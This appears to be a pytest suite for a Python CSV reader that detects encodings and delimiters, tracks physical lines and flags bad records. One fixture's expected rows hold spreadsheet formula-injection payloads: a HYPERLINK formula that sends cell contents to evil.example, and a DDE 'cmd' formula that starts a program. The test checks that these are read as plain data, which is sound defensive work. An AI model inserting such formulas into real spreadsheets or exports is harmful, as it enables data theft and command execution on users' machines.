"""Reading CSV exports record by record (`skillmatch.csvio`): encoding and delimiter
detection, records with their physical lines, bad records, and the rule that every physical
line of the file is accounted for (sep line + header + records + bad records + blank lines).

Fixtures are in `tests/fixtures/batch/` (see its README.md); the peers' corpora
(csv-spectrum, csvlint-rb) are read from the team's shared data.
"""

from __future__ import annotations

import io
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import skillmatch.csvio as csvio
from skillmatch.csvio import (
    MAX_FIELD_CHARS,
    MAX_RECORD_LINES,
    SNIFF_BYTES,
    BadRecord,
    Record,
    RecordStream,
    detect_delimiter,
    detect_encoding,
    read_records,
)

FIXTURES = Path(__file__).parent / "fixtures" / "batch"


def read(data: bytes, **options: str | None) -> tuple[object, list[Record | BadRecord], int]:
    """The dialect, every record / bad record (header first) and the blank line count."""
    dialect, records = read_records(io.BytesIO(data), **options)
    assert isinstance(records, RecordStream)
    items = list(records)
    return dialect, items, records.blank_lines


def physical_lines(data: bytes) -> int:
    """The number of physical lines of a file, the way an editor numbers them."""
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        text = data.decode("utf-16")
    else:
        text = data.decode("latin-1")  # one char per byte: enough to count line ends
    if "\n" not in text and "\r" in text:  # old Mac: lone CR
        text = text.replace("\r", "\n")
    count = text.count("\n")
    if text and not text.endswith("\n"):
        count += 1
    return count


def assert_every_line_accounted(data: bytes, dialect, items, blank: int) -> None:
    covered = int(dialect.sep_line) + blank + sum(i.last_line - i.line + 1 for i in items)
    assert covered == physical_lines(data), (items, blank)
    # and no line is claimed twice: records come in file order without overlap
    previous = int(dialect.sep_line)
    for item in items:
        assert item.line > previous, items
        assert item.last_line >= item.line
        previous = item.last_line


def shape(items: list[Record | BadRecord]) -> list[tuple]:
    return [("R", i.line, i.last_line, i.fields) if isinstance(i, Record)
            else ("B", i.line, i.last_line, i.reason) for i in items]


# -- the project's fixtures: exact dialect, records and lines ------------------------------------

HEADER_FR = ["Identifiant", "Nom", "Compétences", "Profil visé"]
EXCEL_ROWS = [
    ["P001", "Hélène Dupré", "Python, SQL, anglais", "ia-A"],
    ["P002", "François Lœuvre", "cryptographie, sécurité des réseaux", "cyber-A"],
    ["P003", "Zoé Müller", "statistiques, probabilités", ""],
    ["P004", "Jérôme Fabre", "machine learning, git, Python", "ia-B"],
]

EXPECTED = {
    # file: (encoding, delimiter, sep_line, items, blank lines)
    "excel_fr_cp1252.csv": ("cp1252", ";", False, [
        ("R", 1, 1, HEADER_FR),
        *(("R", n, n, row) for n, row in enumerate(EXCEL_ROWS, start=2))], 0),
    "excel_fr_sep.csv": ("cp1252", ";", True, [
        ("R", 2, 2, HEADER_FR),
        *(("R", n, n, row) for n, row in enumerate(EXCEL_ROWS, start=3))], 0),
    "utf8_bom.csv": ("utf-8-sig", ",", False, [
        ("R", 1, 1, ["matricule", "email", "skills", "target"]),
        ("R", 2, 2, ["M-01", "helene.dupre@example.fr", "Python, SQL", "ia-A"]),
        ("R", 3, 3, ["M-02", "zoe.muller@example.fr", "Éthique, RGPD", "ia-A"]),
        ("R", 4, 4, ["M-03", "jerome.fabre@example.fr", "pentest", "cyber-B"])], 0),
    "unicode_text_utf16.txt": ("utf-16", "\t", False, [
        ("R", 1, 1, HEADER_FR),
        ("R", 2, 2, ["U01", "Élodie Brun", "Python, R, statistiques", "ia-A"]),
        ("R", 3, 3, ["U02", "Noé Garnier", "pentest, ISO 27001", "cyber-B"])], 0),
    "multiline.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["id", "nom", "competences", "cible"]),
        ("R", 2, 3, ["M1", "Durand; Paul", "Python\nSQL; anglais", "ia-A"]),
        ("R", 4, 4, ["M2", "Petit", "git", "ia-B"]),
        ("R", 5, 7, ["M3", "Ligne\nsur\ntrois", "R, statistiques", ""]),
        ("R", 8, 8, ["M4", "Roux", '"Python" avancé, git', "ia-A"])], 0),
    "formulas.csv": ("utf-8", ",", False, [
        ("R", 1, 1, ["id", "nom", "competences", "cible"]),
        ("R", 2, 2, ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "Dupont", "python",
                     "ia-A"]),
        ("R", 3, 3, ["+33612345678", "=1+2", "python", "ia-A"]),
        ("R", 4, 4, ["-42", "-Durand", "@SUM(A1:A2), python", "ia-A"]),
        ("R", 5, 5, ["@risk", "@Petit", "python", "=cmd|' /C calc'!A0"]),
        ("R", 6, 6, ["=2+3", "\tTab", "", "ia-A"])], 0),
    "extra_field.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["id", "competences", "cible"]),
        ("R", 2, 2, ["E1", "python", "ia-A"]),
        ("R", 3, 3, ["E2", "git", "ia-B", "en trop"]),
        ("R", 4, 4, ["E3", "R", "ia-A"])], 0),
    "nul_byte.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["id", "competences", "cible"]),
        ("R", 2, 2, ["N1", "python", "ia-A"]),
        ("B", 3, 3, "batch.nul_byte"),
        ("R", 4, 4, ["N3", "git", "ia-B"])], 0),
    "unclosed_quote.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["Identifiant", "Compétences", "Profil visé"]),
        ("R", 2, 2, ["Q1", "python", "ia-A"]),
        ("B", 3, 3, "batch.unclosed_quote"),
        ("R", 4, 4, ["Q3", "git", "ia-B"]),
        ("R", 5, 5, ["Q4", "statistiques, R", "ia-A"])], 0),
    "stray_quote.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["id", "competences", "cible"]),
        ("R", 2, 2, ["S1", "python", "ia-A"]),
        ("B", 3, 3, "batch.bad_quote"),
        ("R", 4, 4, ["S3", "git", "ia-B"])], 0),
    "blank_lines.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["id", "competences", "cible"]),
        ("R", 3, 3, ["L1", "python", "ia-A"]),
        ("R", 6, 6, ["L2", "git", "ia-B"])], 5),
    "duplicate_ids.csv": ("utf-8", ";", False, [
        ("R", 1, 1, ["matricule", "competences", "cible"]),
        ("R", 2, 2, ["A-1001", "python", "ia-A"]),
        ("R", 3, 3, ["B-2002", "cryptographie", "cyber-A"]),
        ("R", 4, 4, ["A-1001", "git, python", "ia-B"]),
        ("R", 5, 5, ["C-3003", "", "ia-A"]),
        ("R", 6, 6, ["B-2002", "R", "profil-inconnu"])], 0),
    "empty.csv": ("utf-8", ",", False, [], 0),
    "header_only.csv": ("cp1252", ";", False, [
        ("R", 1, 1, ["Identifiant", "Compétences", "Profil visé"])], 0),
    "no_skills_column.csv": ("cp1252", ";", False, [
        ("R", 1, 1, ["Identifiant", "Nom", "Profil visé"]),
        ("R", 2, 2, ["P1", "Dupont", "ia-A"])], 0),
}


def test_every_fixture_file_is_described_here_and_in_the_readme():
    files = {p.name for p in FIXTURES.iterdir() if p.name != "README.md"}
    assert files == {*EXPECTED, "bad_utf8.csv", "catalogue_cents.yaml"}
    readme = (FIXTURES / "README.md").read_text(encoding="utf-8")
    for name in files:
        assert f"`{name}`" in readme, name


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_fixture_dialect_records_and_lines(name):
    encoding, delimiter, sep_line, items, blank = EXPECTED[name]
    data = (FIXTURES / name).read_bytes()
    dialect, found, blank_found = read(data)
    assert (dialect.encoding, dialect.delimiter, dialect.sep_line) == \
        (encoding, delimiter, sep_line)
    assert shape(found) == items
    assert blank_found == blank
    assert_every_line_accounted(data, dialect, found, blank_found)


def test_bad_utf8_byte_with_forced_encoding_is_an_error_for_its_line_only():
    data = (FIXTURES / "bad_utf8.csv").read_bytes()
    dialect, found, blank = read(data, encoding="utf-8")
    assert dialect.encoding == "utf-8"
    assert shape(found) == [
        ("R", 1, 1, ["id", "nom", "competences", "cible"]),
        ("R", 2, 2, ["B1", "Hélène", "Python, réseaux", "ia-A"]),
        ("B", 3, 3, "batch.bad_byte"),
        ("R", 4, 4, ["B3", "Jérôme", "éthique, RGPD", "ia-A"]),
    ]
    assert found[2].params == {"byte": "0xe9", "encoding": "utf-8", "line": 3}
    assert_every_line_accounted(data, dialect, found, blank)


def test_bad_utf8_byte_auto_detected_is_an_error_for_its_line_only():
    data = (FIXTURES / "bad_utf8.csv").read_bytes()
    dialect, found, _ = read(data)
    assert dialect.encoding.startswith("utf-8")
    assert found[1].fields == ["B1", "Hélène", "Python, réseaux", "ia-A"]
    assert isinstance(found[2], BadRecord) and found[2].line == 3


def test_bad_byte_past_the_sniffed_head_is_an_error_for_its_line_only():
    """A UTF-8 file whose head is clean: the one cp1252 byte far below is that line's error."""
    rows = ["id;competences;cible"] + [f"R{n};Sécurité réseau;cyber-A" for n in range(2, 3000)]
    data = "\n".join(rows).encode() + b"\nX1;r\xe9seaux;cyber-A\nX2;git;ia-B\n"
    assert len(data) > SNIFF_BYTES
    dialect, found, blank = read(data)
    assert dialect.encoding == "utf-8"
    bad = [i for i in found if isinstance(i, BadRecord)]
    assert [(b.line, b.reason) for b in bad] == [(3000, "batch.bad_byte")]
    assert found[-1].fields == ["X2", "git", "ia-B"] and found[-1].line == 3001
    assert_every_line_accounted(data, dialect, found, blank)


def test_small_cp1252_file_with_its_only_accent_at_the_end_is_cp1252():
    data = b"id;competences;nom\r\nP1;python;Martin\r\nP2;git;Andr\xe9\r\n"
    dialect, found, _ = read(data)
    assert dialect.encoding == "cp1252"
    assert shape(found)[-1] == ("R", 3, 3, ["P2", "git", "André"])


def test_bad_byte_inside_a_multiline_record_reports_the_record_first_line():
    data = b'id;competences\n1;"python\ngi\xfft"\n2;x\n'
    dialect, found, blank = read(data, encoding="utf-8")
    assert shape(found) == [("R", 1, 1, ["id", "competences"]),
                            ("B", 2, 3, "batch.bad_byte"),
                            ("R", 4, 4, ["2", "x"])]
    assert_every_line_accounted(data, dialect, found, blank)


UTF16_HEAD = b"\xff\xfe" + "Identifiant\tCompétences\r\nP1\tpython\r\n".encode("utf-16-le")


@pytest.mark.xfail(strict=True, reason=(
    "bug: an undecodable UTF-16 file (odd trailing byte, lone surrogate) raises "
    "UnicodeDecodeError out of the reader instead of a batch.bad_byte record; the CLI "
    "then reports 'erreur inattendue' with exit 1"))
@pytest.mark.parametrize("tail", [
    b"A",  # a file cut in the middle of a UTF-16 code unit
    b"\x00\xd8" + "x\tpython\r\n".encode("utf-16-le"),  # a lone high surrogate
], ids=["odd-byte", "lone-surrogate"])
def test_undecodable_utf16_gives_a_bad_record_not_an_exception(tail):
    dialect, found, _ = read(UTF16_HEAD + tail)
    assert dialect.encoding == "utf-16"
    assert shape(found)[:2] == [("R", 1, 1, ["Identifiant", "Compétences"]),
                                ("R", 2, 2, ["P1", "python"])]
    assert [i.reason for i in found[2:]] == ["batch.bad_byte"]


# -- detection --------------------------------------------------------------------------------


@pytest.mark.parametrize(("head", "encoding"), [
    (b"\xef\xbb\xbfid;x\n", "utf-8-sig"),
    (b"\xff\xfei\x00d\x00", "utf-16"),
    (b"\xfe\xff\x00i\x00d", "utf-16"),
    ("id;compétences\n".encode(), "utf-8"),
    ("id;compétences\n".encode("cp1252"), "cp1252"),
    (b"id;x\n", "utf-8"),
    (b"", "utf-8"),
    # the sample ends in the middle of a UTF-8 character: still UTF-8
    (b"id;x\n" * 10 + "é".encode()[:1], "utf-8"),
])
def test_detect_encoding(head, encoding):
    assert detect_encoding(head) == encoding


def test_detect_encoding_forced_wins():
    assert detect_encoding("é".encode(), "latin-1") == "latin-1"
    assert detect_encoding(b"\xef\xbb\xbfx", "cp1252") == "cp1252"


@pytest.mark.parametrize(("line", "delimiter"), [
    ("id;nom;compétences", ";"),
    ("id,nom,compétences", ","),
    ("id\tnom\tcompétences", "\t"),
    ("id|nom|compétences", "|"),
    ('"nom, prénom";id;skills', ";"),  # the comma is inside quotes
    ('"a;b";"c;d",e,f', ","),
    ("identifiant", ","),  # one column: the default
    ("", ","),
])
def test_detect_delimiter(line, delimiter):
    assert detect_delimiter(line) == delimiter


@pytest.mark.parametrize(("forced", "delimiter"), [("\\t", "\t"), ("tab", "\t"), ("TAB", "\t"),
                                                   (";", ";"), ("|", "|")])
def test_detect_delimiter_forced(forced, delimiter):
    assert detect_delimiter("a,b,c", forced) == delimiter


def test_forced_delimiter_and_encoding_are_used_for_reading():
    data = (FIXTURES / "unicode_text_utf16.txt").read_bytes()
    dialect, found, _ = read(data, encoding="utf-16", delimiter="tab")
    assert (dialect.encoding, dialect.delimiter) == ("utf-16", "\t")
    assert found[1].fields[1] == "Élodie Brun"
    data = (FIXTURES / "excel_fr_cp1252.csv").read_bytes()
    dialect, found, _ = read(data, delimiter=",")
    assert dialect.delimiter == ","
    assert found[0].fields == ["Identifiant;Nom;Compétences;Profil visé"]


def test_sep_line_after_a_bom_and_its_delimiter_win():
    data = "\ufeffsep=|\r\nid;x|competences\r\n1;a|python\r\n".encode()
    dialect, found, blank = read(data)
    assert (dialect.encoding, dialect.delimiter, dialect.sep_line) == ("utf-8-sig", "|", True)
    assert shape(found) == [("R", 2, 2, ["id;x", "competences"]), ("R", 3, 3, ["1;a", "python"])]
    assert_every_line_accounted(data, dialect, found, blank)


def test_lone_cr_line_ends_are_lines():
    data = b'id,competences\r1,python\r2,"git\rR"\r3,sql'
    dialect, found, blank = read(data)
    assert [(i.line, i.last_line) for i in found] == [(1, 1), (2, 2), (3, 4), (5, 5)]
    assert found[3].fields == ["3", "sql"]
    assert_every_line_accounted(data, dialect, found, blank)


# -- bad records ------------------------------------------------------------------------------


def test_field_longer_than_the_limit_is_an_error_for_its_row_only():
    long = "a" * (MAX_FIELD_CHARS + 1)
    data = f"id;competences\n1;{long}\n2;python\n3;{'b' * MAX_FIELD_CHARS}\n".encode()
    dialect, found, blank = read(data)
    assert shape(found)[:3] == [("R", 1, 1, ["id", "competences"]),
                                ("B", 2, 2, "batch.field_too_long"),
                                ("R", 3, 3, ["2", "python"])]
    assert found[1].params == {"limit": MAX_FIELD_CHARS}
    assert isinstance(found[3], Record) and len(found[3].fields[1]) == MAX_FIELD_CHARS
    assert_every_line_accounted(data, dialect, found, blank)


def test_unclosed_quote_in_a_long_file_loses_only_its_line():
    rows = [f"R{n};python;ia-A" for n in range(3, 3 + MAX_RECORD_LINES + 50)]
    data = ('id;competences;cible\nQ;"python;ia-A\n' + "\n".join(rows) + "\n").encode()
    dialect, found, blank = read(data)
    assert shape(found)[:3] == [("R", 1, 1, ["id", "competences", "cible"]),
                                ("B", 2, 2, "batch.unclosed_quote"),
                                ("R", 3, 3, ["R3", "python", "ia-A"])]
    assert [i.fields[0] for i in found[2:]] == [r.split(";")[0] for r in rows]
    assert_every_line_accounted(data, dialect, found, blank)


def test_quote_closed_on_a_later_line_then_junk_resyncs_after_the_broken_line():
    data = b'id;competences;cible\nU1;python;ia-A\nU2;"python, sql;ia-A\nU3;git;ia-B\n' \
           b'U4;"R";ia-A\nU5;x;y\n'
    dialect, found, blank = read(data)
    assert shape(found) == [("R", 1, 1, ["id", "competences", "cible"]),
                            ("R", 2, 2, ["U1", "python", "ia-A"]),
                            ("B", 3, 3, "batch.bad_quote"),
                            ("R", 4, 4, ["U3", "git", "ia-B"]),
                            ("R", 5, 5, ["U4", "R", "ia-A"]),
                            ("R", 6, 6, ["U5", "x", "y"])]
    assert_every_line_accounted(data, dialect, found, blank)


def test_nul_in_utf16_is_a_bad_record():
    data = UTF16_HEAD + "P2\tpy\x00thon\r\nP3\tgit\r\n".encode("utf-16-le")
    dialect, found, blank = read(data)
    assert shape(found)[2:] == [("B", 3, 3, "batch.nul_byte"), ("R", 4, 4, ["P3", "git"])]
    assert_every_line_accounted(data, dialect, found, blank)


def test_rows_of_empty_or_blank_fields_are_blank_lines():
    data = b'id,competences\n\n,\n"",""\n  ,  \n1,python\n\n'
    dialect, found, blank = read(data)
    assert shape(found) == [("R", 1, 1, ["id", "competences"]), ("R", 6, 6, ["1", "python"])]
    assert blank == 5
    assert_every_line_accounted(data, dialect, found, blank)


# -- peers' corpora ---------------------------------------------------------------------------


def spectrum_cases() -> list[str]:
    return ["comma_in_quotes", "empty", "empty_crlf", "escaped_quotes", "json", "newlines",
            "newlines_crlf", "quotes_and_newlines", "simple", "simple_crlf", "utf8"]


@pytest.mark.parametrize("name", spectrum_cases())
def test_csv_spectrum_records(shared, name):
    folder = shared / "peers" / "csv-spectrum"
    data = (folder / "csvs" / f"{name}.csv").read_bytes()
    expected = json.loads((folder / "json" / f"{name}.json").read_text(encoding="utf-8"))
    dialect, found, blank = read(data)
    assert (dialect.encoding, dialect.delimiter) == ("utf-8", ",")
    assert all(isinstance(i, Record) for i in found), found
    header, *rows = (i.fields for i in found)
    assert [dict(zip(header, row, strict=True)) for row in rows] == expected
    assert_every_line_accounted(data, dialect, found, blank)


def test_csv_spectrum_is_complete(shared):
    names = sorted(p.stem for p in (shared / "peers" / "csv-spectrum" / "csvs").glob("*.csv"))
    assert names == sorted(spectrum_cases())


def csvlint_files(shared: Path) -> list[Path]:
    folder = shared / "peers" / "csvlint-rb"
    return sorted([*folder.glob("features/*.csv"), *folder.glob("fixtures/*.csv")])


def test_csvlint_bad_files_never_crash_and_account_for_every_line(shared):
    folder = shared / "peers" / "csvlint-rb"
    index = (folder / "index.tsv").read_text(encoding="utf-8").splitlines()
    listed = {line.split("\t")[0] for line in index[1:] if line.strip()}
    files = csvlint_files(shared)
    assert listed <= {str(p.relative_to(folder)) for p in files}
    assert len(files) == 11
    for path in files:
        data = path.read_bytes()
        dialect, found, blank = read(data)
        assert found, path
        assert all(isinstance(i, Record | BadRecord) for i in found)
        assert_every_line_accounted(data, dialect, found, blank)


# What csvlint flags, as we read it (csvlint's own expectation is in index.tsv).
CSVLINT_EXPECTED = {
    "features/ragged-rows.csv": [("R", 1, 1, ["col1", "col2", "col3"]),
                                 ("R", 2, 2, ["1", "2", "3"]), ("R", 3, 3, ["4", "5"])],
    "features/unclosed-quote.csv": [("R", 1, 1, ["col1", "col2", "col3"]),
                                    ("B", 2, 2, "batch.unclosed_quote")],
    "features/whitespace.csv": [("R", 1, 1, ["col1", "col2", "col3"]),
                                ("R", 2, 2, ["Foo", "Bar", '   "Baz"'])],
    "features/blank-rows.csv": [("R", 1, 1, ["col1", "col2", "col3"]),
                                ("R", 2, 2, ["Foo", "Bar", "Baz"]),
                                ("R", 4, 4, ["Baz", "Bar", "Foo"])],
    "features/empty-row.csv": [("R", 1, 1, ["col1", "col2", "col3"]),
                               ("R", 2, 2, ["Foo", "Bar", "Baz"]),
                               ("R", 4, 4, ["Foo", "Bar", "Baz"])],
    "fixtures/cr-line-endings.csv": [("R", 1, 1, ["Foo", "Bar", "Baz"]),
                                     ("R", 2, 2, ["Biff", "Baff", "Boff"]),
                                     ("R", 3, 3, ["Qux", "Teaspoon", "Doge"])],
    "fixtures/inconsistent-line-endings.csv": [("R", 1, 1, ["Foo", "Bsr", "Baz"]),
                                               ("R", 2, 2, ["Biff", "Baff", "Boff"]),
                                               ("R", 3, 3, ["Qux", "Teaspoon", "Doge"])],
}


@pytest.mark.parametrize("name", sorted(CSVLINT_EXPECTED))
def test_csvlint_files_exact(shared, name):
    _, found, _ = read((shared / "peers" / "csvlint-rb" / name).read_bytes())
    assert shape(found) == CSVLINT_EXPECTED[name]


def test_csvlint_invalid_many_rows(shared):
    data = (shared / "peers" / "csvlint-rb" / "fixtures" / "invalid_many_rows.csv").read_bytes()
    dialect, found, blank = read(data)
    assert_every_line_accounted(data, dialect, found, blank)
    # line 4 is `"1","2","3" "`: a stray quote; line 8 is empty; line 11 is `"","",""`
    assert [(i.line, i.reason) for i in found if isinstance(i, BadRecord)] == \
        [(4, "batch.bad_quote")]
    assert [i.line for i in found if isinstance(i, Record)] == [1, 2, 3, 5, 6, 7, 9, 10, 12]
    assert blank == 2


def test_csvlint_latin1_bank_export(shared):
    path = shared / "peers" / "csvlint-rb" / "fixtures" / "invalid-byte-sequence.csv"
    dialect, found, _ = read(path.read_bytes())
    assert (dialect.encoding, dialect.delimiter) == ("cp1252", ",")
    assert all(isinstance(i, Record) for i in found)
    assert found[0].fields[2:5] == ["Histórico", "Data do Balancete", "Número do documento"]
    assert {len(i.fields) for i in found} == {7}  # a trailing delimiter on every line
    assert len(found) == 24


# -- block reading: the same records whatever the block size ---------------------------------


#: Pieces real exports are made of, and the troubles they bring: quoted fields with new
#: lines and delimiters, stray and unclosed quotes, blank lines, NUL, form feeds and lone CRs
#: inside fields, accents, a byte that is not UTF-8, CRLF and LF.
PIECES = [b"abc", b"Python, SQL", b'"a;b"', b'"multi\r\nline"', b'"x""y"', b'"unclosed',
          b'stray"quote', b"", b"   ", b"\x00", b"caf\xc3\xa9", b"\xe9t\xe9", b"\x0c", b"\x0b",
          b"a\rb", b"\xe2\x80\xa8", b";", b'"', b"\r\n", b"\n"]


@st.composite
def messy_files(draw: st.DrawFn) -> bytes:
    lines = draw(st.lists(st.lists(st.sampled_from(PIECES), max_size=5), max_size=25))
    body = b"".join(b";".join(cells) + draw(st.sampled_from([b"\r\n", b"\n"]))
                    for cells in lines)
    return b"id;skills;target\r\n" + body


def snapshot(data: bytes) -> tuple[object, list[tuple[object, ...]], int]:
    dialect, items, blank = read(data, encoding="utf-8", delimiter=";")
    return dialect, [(type(i).__name__, i.line, i.last_line,
                      i.fields if isinstance(i, Record) else i.reason) for i in items], blank


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=messy_files(), block=st.integers(min_value=1, max_value=64))
def test_records_do_not_depend_on_the_block_size(data: bytes, block: int) -> None:
    whole = snapshot(data)  # one block holds the whole file
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(csvio, "BLOCK_BYTES", block)
        assert snapshot(data) == whole
    dialect, items, blank = read(data, encoding="utf-8", delimiter=";")
    assert_every_line_accounted(data, dialect, items, blank)


def test_a_quoted_field_across_two_blocks_is_one_record(monkeypatch):
    data = b'id;skills\r\n1;"Python\r\nSQL\r\nGit"\r\n2;R\r\n'
    monkeypatch.setattr(csvio, "BLOCK_BYTES", 16)  # the quoted field spans blocks
    _, items, _ = read(data)
    assert [(i.line, i.last_line, i.fields) for i in items] == [
        (1, 1, ["id", "skills"]), (2, 4, ["1", "Python\r\nSQL\r\nGit"]), (5, 5, ["2", "R"])]


def test_form_feeds_and_line_separators_inside_fields_are_not_line_ends():
    data = "id;skills\r\n1;a\x0cb\u2028c\r\n2;d\x0be\r\n".encode()
    _, items, _ = read(data)
    assert [(i.line, i.fields) for i in items] == [
        (1, ["id", "skills"]), (2, ["1", "a\x0cb\u2028c"]), (3, ["2", "d\x0be"])]


def test_first_record_then_blocks_go_on_after_it():
    data = b"\r\n\r\nid;skills\r\n1;Python\r\n\r\n2;SQL\r\n"
    _, records = read_records(io.BytesIO(data), delimiter=";")
    assert isinstance(records, RecordStream)
    header = records.first()
    assert isinstance(header, Record) and (header.line, header.fields) == (3, ["id", "skills"])
    blocks = list(records.blocks())
    assert [(s, r) for starts, _, rows in blocks
            for s, r in zip(starts, rows, strict=True)] == [
        (4, ["1", "Python"]), (6, ["2", "SQL"])]
    assert records.blank_lines == 3


def test_first_record_of_an_empty_or_blank_file_is_none():
    for data in (b"", b"\r\n  \r\n"):
        _, records = read_records(io.BytesIO(data))
        assert isinstance(records, RecordStream)
        assert records.first() is None


def test_delimiter_is_read_from_the_header_after_blank_lines():
    dialect, items, blank = read(b"\r\n  \r\nid;skills\r\n1;Python, SQL\r\n")
    assert dialect.delimiter == ";"
    assert [(i.line, i.fields) for i in items] == [(3, ["id", "skills"]),
                                                   (4, ["1", "Python, SQL"])]
    assert blank == 2
